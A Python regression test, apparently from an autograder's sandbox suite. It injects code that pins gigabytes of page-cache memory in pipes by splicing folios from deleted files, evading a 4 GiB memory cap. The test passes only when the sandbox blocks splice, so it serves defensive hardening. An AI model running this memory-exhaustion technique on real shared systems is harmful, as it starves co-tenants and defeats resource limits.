"""A top-level cell writes 64 MiB files in its scratch, splices one byte of each 1 MiB page-cache folio into a pipe and deletes the file, again and again: each pipe slot kept a whole folio that no process maps, no file names and no fd shows (fourth attack on issue 27: 6 GiB held 18-20 s past the 4 GiB cap at score 100 in docker-root and k8s-pod); splice answers ENOSYS; attacks the memory budget of the worker tree; every part keeps full points."""
from autograder.assignment import PART_IDS
ATTACKS = []
KEEPS = list(PART_IDS)
NEVER = ["PIPE HOLD: held"]
EXPECT = ["PIPE HOLD: "]
ADD = [(None, r'''
import errno as _errno, os as _os, time as _time
def _pin(target=6144, file_mib=64, hold=10):
    started, block = _time.monotonic(), b"\x5a" * (1 << 20)
    pipes, slots, n = [], 0, 0
    try:
        while slots < target:
            path = _os.path.join(_os.getcwd(), f"folios{n}")
            n += 1
            fd = _os.open(path, _os.O_RDWR | _os.O_CREAT | _os.O_TRUNC, 0o600)
            for _ in range(file_mib):
                _os.write(fd, block)
            at = 0
            while at < file_mib << 20 and slots < target:
                if not pipes or pipes[-1][1] == 16:  # 16 slots a pipe; its write end closed once full (few fds)
                    if pipes:
                        _os.close(pipes[-1][2])
                        pipes[-1][2] = None
                    r, w = _os.pipe()
                    pipes.append([r, 0, w])
                _os.splice(fd, pipes[-1][2], 1, offset_src=at)
                pipes[-1][1] += 1
                slots += 1
                at += 1 << 20
            _os.close(fd)
            _os.unlink(path)
    except OSError as err:
        raise RuntimeError(f"PIPE HOLD: refused {_errno.errorcode.get(err.errno, err.errno)} after {slots} slots")
    filled = _time.monotonic() - started
    _time.sleep(hold)
    raise RuntimeError(f"PIPE HOLD: held {slots} slots in {len(pipes)} pipes; filled in {filled:.1f} s, "
                       f"alive at {_time.monotonic() - started:.1f} s")
_pin()
''')]
